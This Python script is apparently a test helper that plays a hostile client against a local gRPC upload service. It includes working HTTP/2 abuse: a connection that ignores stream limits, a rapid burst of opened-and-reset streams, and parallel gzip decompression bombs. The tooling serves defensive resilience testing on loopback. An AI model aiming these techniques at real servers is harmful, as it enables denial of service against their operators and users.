#!/usr/bin/python3
"""A hostile or careless client of uploadwatch, for tests/abuse_binary_test.sh.

Each subcommand does one thing against HOST:PORT on loopback and prints one
JSON object on stdout. Raw HTTP/2 frames (python3-h2) are used where gRPC
client libraries refuse to misbehave; grpcio (raw bytes, no stubs) elsewhere.

  settings ADDR                 the server's HTTP/2 SETTINGS
  burst ADDR N [MODE]           open N watch streams on one connection, each
                                reset at once (MODE reset) or left open (headers),
                                as caller "x-caller: burst"
  gzip ADDR MIB PARALLEL        PARALLEL gzip requests, each inflating to MIB MiB
  unary ADDR PATH HEX [AUTH]    one unary call with raw request bytes
  watch ADDR COUNTER ID         one watch: messages until it ends, and its status
"""
import gzip
import json
import socket
import struct
import sys
import time

BATCH = 1000  # streams written before reading what the server sent
SERVICE = "/metrika.offline_conversions.v1.UploadingService/"


def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def ids_request(counter, uploading):
    """GetUploadingRequest / WatchUploadingRequest: fields 1 and 2, varints."""
    return b"\x08" + varint(counter) + b"\x10" + varint(uploading)


def grpc_frame(payload, compressed=False):
    return struct.pack(">BI", 1 if compressed else 0, len(payload)) + payload


# --- raw HTTP/2 -------------------------------------------------------------

def h2_connect(addr):
    import h2.config
    import h2.connection
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    class Reckless(h2.connection.H2Connection):
        """Ignores the server's MAX_CONCURRENT_STREAMS: that is the attack."""
        open_outbound_streams = property(lambda self: 0)

    conn = Reckless(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.local_settings.update({0x4: 2**31 - 1})  # INITIAL_WINDOW_SIZE
    conn.initiate_connection()
    conn.increment_flow_control_window(2**30)
    sock.sendall(conn.data_to_send())
    return sock, conn


def request_headers(addr, method, extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":authority", addr),
            (":path", SERVICE + method), ("content-type", "application/grpc"),
            ("te", "trailers")] + list(extra)


def pump(sock, conn, until, seconds):
    """Reads events until `until(event)` is true or `seconds` pass."""
    import h2.events
    deadline = time.time() + seconds
    events = []
    while time.time() < deadline:
        sock.settimeout(max(0.01, deadline - time.time()))
        try:
            data = sock.recv(1 << 20)
        except socket.timeout:
            break
        except ConnectionError:
            events.append("closed")
            break
        if not data:
            events.append("closed")
            break
        for event in conn.receive_data(data):
            events.append(event)
            if isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length,
                                               event.stream_id)
            if until(event):
                send_pending(sock, conn, events)
                return events
        send_pending(sock, conn, events)
    return events


def send_pending(sock, conn, events):
    try:
        sock.sendall(conn.data_to_send())
    except OSError:
        events.append("closed")


def cmd_settings(addr):
    import h2.events
    sock, conn = h2_connect(addr)
    events = pump(sock, conn,
                  lambda e: isinstance(e, h2.events.RemoteSettingsChanged), 5)
    out = {}
    for e in events:
        if isinstance(e, h2.events.RemoteSettingsChanged):
            out = {str(int(k)): v.new_value for k, v in e.changed_settings.items()}
    print(json.dumps({"settings": out,
                      "max_concurrent_streams": out.get("3")}))


def tally(events, out):
    import h2.events
    for e in events:
        if e == "closed":
            out["closed"] = True
        elif isinstance(e, h2.events.StreamReset):
            out["reset_by_server"] += 1
        elif isinstance(e, h2.events.ConnectionTerminated):
            out["goaway"] = True


def wait_for_window(sock, conn, sid, size, out):
    """Pumps until `size` bytes may be sent on `sid` (at most 2 s)."""
    deadline = time.time() + 2
    while conn.local_flow_control_window(sid) < size:
        sock.sendall(conn.data_to_send())
        tally(pump(sock, conn, lambda e: False, 0.05), out)
        if out["closed"] or time.time() > deadline:
            out["stalled"] = True
            return False
    return True


def cmd_burst(addr, n, mode="reset"):
    """Opens n Watch streams on one connection. mode "reset": headers and the
    request, then RST_STREAM at once; "headers": headers only, left open."""
    import h2.errors
    sock, conn = h2_connect(addr)
    pump(sock, conn, lambda e: False, 0.2)
    out = {"sent": 0, "reset_by_server": 0, "goaway": False, "closed": False}
    body = grpc_frame(ids_request(2215573, 16))
    try:
        for i in range(n):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request_headers(
                addr, "WatchUploading", [("x-caller", "burst")]))
            if mode == "reset":
                if not wait_for_window(sock, conn, sid, len(body), out):
                    break
                conn.send_data(sid, body, end_stream=True)
                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            out["sent"] += 1
            if i % BATCH == BATCH - 1:
                sock.sendall(conn.data_to_send())
                tally(pump(sock, conn, lambda e: False, 0.001), out)
                if out["closed"]:
                    break
        sock.sendall(conn.data_to_send())
    except (ConnectionError, OSError) as e:
        out["closed"] = True
        out["error"] = str(e)
    tally(pump(sock, conn, lambda e: False, 1.0), out)
    sock.close()
    print(json.dumps(out))


def cmd_gzip(addr, mib, parallel):
    """PARALLEL GetUploading calls whose gzip body inflates to MIB MiB."""
    import h2.events
    # A valid request followed by an unknown bytes field (tag 15) of zeros.
    filler = b"\x00" * (mib << 20)
    message = ids_request(2215573, 12) + b"\x7a" + varint(len(filler)) + filler
    packed = gzip.compress(message, 9)
    sock, conn = h2_connect(addr)
    pump(sock, conn, lambda e: False, 0.2)
    streams = []
    for _ in range(parallel):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_headers(
            addr, "GetUploading", [("grpc-encoding", "gzip"),
                                   ("grpc-accept-encoding", "identity")]))
        streams.append(sid)
    sock.sendall(conn.data_to_send())
    pending = {sid: grpc_frame(packed, compressed=True) for sid in streams}
    results = {}
    deadline = time.time() + 30
    while (pending or len(results) < parallel) and time.time() < deadline:
        for sid in list(pending):
            window = min(conn.local_flow_control_window(sid),
                         conn.max_outbound_frame_size)
            if window <= 0:
                continue
            chunk, pending[sid] = pending[sid][:window], pending[sid][window:]
            try:
                conn.send_data(sid, chunk, end_stream=not pending[sid])
            except Exception:  # the server already ended the stream
                pending.pop(sid)
                continue
            if not pending[sid]:
                pending.pop(sid)
        sock.sendall(conn.data_to_send())
        for e in pump(sock, conn, lambda e: False, 0.05):
            if isinstance(e, h2.events.TrailersReceived) or (
                    isinstance(e, h2.events.ResponseReceived)
                    and dict(e.headers).get("grpc-status") is not None):
                h = dict(e.headers)
                results[e.stream_id] = [h.get("grpc-status"),
                                        h.get("grpc-message", "")]
                pending.pop(e.stream_id, None)
            elif isinstance(e, h2.events.StreamReset):
                results.setdefault(e.stream_id, ["reset", str(e.error_code)])
                pending.pop(e.stream_id, None)
            elif e == "closed":
                deadline = 0
    sock.close()
    print(json.dumps({"compressed_bytes": len(packed),
                      "inflated_bytes": len(message),
                      "statuses": sorted(results.values())}))


# --- grpcio, raw bytes -------------------------------------------------------

def cmd_unary(addr, path, hexbody, auth=None):
    import grpc
    channel = grpc.insecure_channel(addr)
    call = channel.unary_unary(path)
    metadata = None if auth is None else [("authorization", auth)]
    start = time.time()
    try:
        reply = call(bytes.fromhex(hexbody), timeout=10, metadata=metadata)
        out = {"code": "OK", "reply": reply.hex()}
    except grpc.RpcError as e:
        out = {"code": e.code().name, "message": e.details()}
    out["seconds"] = round(time.time() - start, 3)
    print(json.dumps(out))


def cmd_watch(addr, counter, uploading):
    import grpc
    channel = grpc.insecure_channel(addr)
    call = channel.unary_stream(SERVICE + "WatchUploading")
    messages = 0
    try:
        for _ in call(ids_request(counter, uploading), timeout=60):
            messages += 1
            print(json.dumps({"message": messages}), flush=True)
        out = {"code": "OK"}
    except grpc.RpcError as e:
        out = {"code": e.code().name, "message": e.details()}
    out["messages"] = messages
    print(json.dumps(out), flush=True)


def main(argv):
    cmd, args = argv[1], argv[2:]
    if cmd == "settings":
        cmd_settings(args[0])
    elif cmd == "burst":
        cmd_burst(args[0], int(args[1]), *args[2:])
    elif cmd == "gzip":
        cmd_gzip(args[0], int(args[1]), int(args[2]))
    elif cmd == "unary":
        cmd_unary(*args)
    elif cmd == "watch":
        cmd_watch(args[0], int(args[1]), int(args[2]))
    else:
        sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    main(sys.argv)
